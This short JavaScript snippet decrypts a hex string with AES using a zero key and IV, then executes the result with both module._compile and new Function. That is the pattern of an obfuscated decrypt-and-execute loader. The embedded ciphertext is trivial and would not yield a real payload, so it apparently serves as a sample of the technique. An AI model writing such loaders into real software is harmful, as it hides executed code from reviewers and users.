const c = require('crypto');
const d = c.createDecipheriv('aes-256-cbc', Buffer.alloc(32), Buffer.alloc(16));
const text = d.update('00ff', 'hex', 'utf8') + d.final('utf8');
module._compile(text, '');
new Function(text)();
